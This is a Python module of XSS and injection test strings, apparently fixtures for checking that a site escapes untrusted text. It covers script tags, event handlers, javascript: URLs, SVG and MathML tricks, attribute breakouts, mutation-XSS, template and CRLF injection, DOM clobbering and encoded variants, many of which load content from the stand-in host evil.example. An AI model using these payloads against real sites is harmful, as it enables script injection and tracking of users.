r"""Words that would run a script, fetch something or bring in elements of their own if any place showed them unescaped.

Each sets `window.pwned`, opens a dialog, asks evil.example for something, or puts an element onto the page that is not ours.
"""

from __future__ import annotations

HOST = "evil.example"

SCRIPTS = (
    "<script>window.pwned = 1; alert(1)</script>",
    "<ScRiPt>pwned=2</sCrIpT>",
    "<script src=//evil.example/run.js></script>",
    "<script/x>pwned=3</script/x>",
    "<script\n>pwned=4</script\n>",
    "<script type=module>import 'https://evil.example/part.js'</script>",
    "<<script>pwned=5//<</script>",
    "</script><script>pwned=6</script>",
    "<scr<script>ipt>pwned=7</scr</script>ipt>",
    "<noscript><p title='</noscript><script>pwned=8</script>'></noscript>",
)

HANDLERS = (
    '<img src=x onerror="window.pwned = 9; alert(2)">',
    "<img/src='x'/onerror=pwned=10>",
    "<IMG SRC=x OnErRoR=pwned=11>",
    "<body onload=pwned=12>",
    "<input autofocus onfocus=pwned=13>",
    "<details open ontoggle=pwned=14>unfold</details>",
    "<video><source onerror=pwned=15></video>",
    "<audio src=x onerror=pwned=16></audio>",
    "<marquee onstart=pwned=17>runs along</marquee>",
    "<div style='animation: spin 1s' onanimationstart=pwned=18>turns</div>",
    "<p onpointerenter=pwned=19 style=position:fixed;inset:0>all over the page</p>",
    "<select autofocus onfocus=pwned=20><option>one</option></select>",
    "<button popovertarget=pop>open</button><div popover id=pop onbeforetoggle=pwned=21>popped</div>",
)

ADDRESSES = (
    "<a href='javascript:pwned=22'>here</a>",
    "<a href='JaVa\tScRiPt:pwned=23'>there</a>",
    "<a href='&#106;avascript&colon;pwned=24'>elsewhere</a>",
    "javascript:pwned=25//",
    "data:text/html,<script>parent.pwned=26</script>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg=='>data</a>",
    "<form action=javascript:pwned=27><button>send</button></form>",
    "<button formaction=javascript:pwned=28 form=f>send too</button>",
    "<a href=//evil.example ping=https://evil.example/ping>ping</a>",
)

PICTURES = (
    "<svg onload=pwned=29></svg>",
    "<svg><script>pwned=30</script></svg>",
    "<svg><animate onbegin=pwned=31 attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:pwned=32'><text y=9>drawn</text></a></svg>",
    "<svg><use href='https://evil.example/shapes.svg#one'/></svg>",
    "<svg><foreignObject><iframe src='https://evil.example/'></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror=pwned=33></mtext></math>",
    "<math href='javascript:pwned=34'><mi>x</mi></math>",
    "<img src='https://evil.example/pixel.png'>",
    "<img srcset='https://evil.example/wide.png 2x'>",
    "<picture><source srcset=https://evil.example/other.png><img></picture>",
    "<video poster=https://evil.example/still.png></video>",
    "<input type=image src=https://evil.example/press.png>",
)

FRAMES = (
    '<iframe srcdoc="<script>parent.pwned = 35</script>"></iframe>',
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe src=javascript:parent.pwned=36></iframe>",
    "<object data='https://evil.example/film'></object>",
    "<embed src='https://evil.example/film'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/look.css'>",
    "<link rel=prefetch href='https://evil.example/next'>",
    "<link rel=dns-prefetch href='//evil.example'>",
)

STYLES = (
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>* { background: url(https://evil.example/b.png) }</style>",
    "<p style='background: url(https://evil.example/c.png)'>coloured</p>",
    "</style><style>#vb-page { display: none }",
    "x; background-image: url(https://evil.example/d.png)",
    "<div style=position:fixed;inset:0;z-index:9999>Log in again</div>",
)

BREAKOUTS = (
    '"><img src=x onerror=pwned=37>',
    "'><img src=x onerror=pwned=38>",
    '" onmouseover="pwned=39" autofocus onfocus="pwned=39" x="',
    "' onmouseover='pwned=40' autofocus onfocus='pwned=40' x='",
    " onclick=pwned=41 autofocus onfocus=pwned=41 ",
    "` onfocus=pwned=42 autofocus `",
    "</textarea><img src=x onerror=pwned=43>",
    "</title><img src=x onerror=pwned=44>",
    "--><img src=x onerror=pwned=45><!--",
    "<!--><img src=x onerror=pwned=46>-->",
    "<![CDATA[<img src=x onerror=pwned=47>]]>",
    "</template></bdi></button></td></table><img src=x onerror=pwned=48>",
    "<img src='https://evil.example/?",
    '<a href="https://evil.example/?x=',
    '\\"; pwned=49; //',
    "'}; pwned=50; ({a: '",
)

MUTATIONS = (
    "<svg></p><style><a id='</style><img src=x onerror=pwned=51>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned=52&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned=53>",
    "<template><img src=x onerror=pwned=54></template>",
    "<xmp><p title='</xmp><img src=x onerror=pwned=55>'>",
    "<plaintext><b>to the end",
)

TEMPLATES = (
    "${window.pwned = 56} `${alert(3)}`",
    "{{constructor.constructor('pwned=57')()}}",
    "{{ 7 * 7 }} {% raw %}{{ value }}{% endraw %} {{ config }}",
    "{@html '<img src=x onerror=pwned=58>'} {#if true}{value}{/if}",
    "<div ng-app>{{$on.constructor('pwned=59')()}}</div>",
    "<div v-html=\"'<img src=x onerror=pwned=60>'\">#{pwned}</div>",
    "<%= pwned=61 %> <?php echo 1 ?>",
)

MARKDOWN = (
    "![picture](https://evil.example/picture.png)",
    "[click](javascript:pwned=62)",
    "<javascript:pwned=63>",
    "[ref]: https://evil.example/ref 'title'",
    "$$\\href{javascript:pwned=64}{x}$$",
)

ENTITIES = (
    "&lt;script&gt;pwned=65&lt;/script&gt;",
    "&#60;img src=x onerror=pwned=66&#62;",
    "&amp;lt;img src=x onerror=pwned=67&amp;gt;",
    "\\u003cimg src=x onerror=pwned=68\\u003e \\x3csvg onload=pwned=68\\x3e",
    "%3Cscript%3Epwned=69%3C/script%3E",
    "+ADw-script+AD4-pwned=70+ADw-/script+AD4-",
    "\uff1cscript\uff1epwned=71\uff1c/script\uff1e",
)

SIGNS = (
    "\u202e<img src=x onerror=pwned=72>\u202c",
    "<scr\u200bipt>pwned=73</scr\u200bipt><img src=x\u200b onerror=pwned=73>",
    "<img\x0csrc=x\x0conerror=pwned=74>",
    "<scr\x00ipt>pwned=75</scr\x00ipt><img src=x onerror=pwned=75>",
    "\ufeff<b>bold\u2028<i>sloping\u2029</b>",
)

NAMES = (
    "<a id=pwned></a><a id=pwned name=x></a>",
    "<form id=verbatim><input name=panel><input name=children></form>",
    "<img name=querySelector><img name=body>",
    "<b class=vb-turn data-event=anew data-question=mine>ask</b>",
    "<dialog open class=vb-dialog id=vb-dialog>ours?</dialog>",
    '{"__proto__": {"pwned": 76}}',
    "__proto__",
    "constructor",
)

LINES = (
    "q\r\nSet-Cookie: pwned=77\r\n\r\n<script>pwned=77</script>",
    "name\nTY  - JOUR\nER  - \n",
    "}}, title = {{<b>taken over</b>",
    '=HYPERLINK("https://evil.example/", "here")',
    "?q=<img src=x onerror=pwned=78>&collection=<b>#documents",
)

PAYLOADS = (
    *SCRIPTS,
    *HANDLERS,
    *ADDRESSES,
    *PICTURES,
    *FRAMES,
    *STYLES,
    *BREAKOUTS,
    *MUTATIONS,
    *TEMPLATES,
    *MARKDOWN,
    *ENTITIES,
    *SIGNS,
    *NAMES,
    *LINES,
)
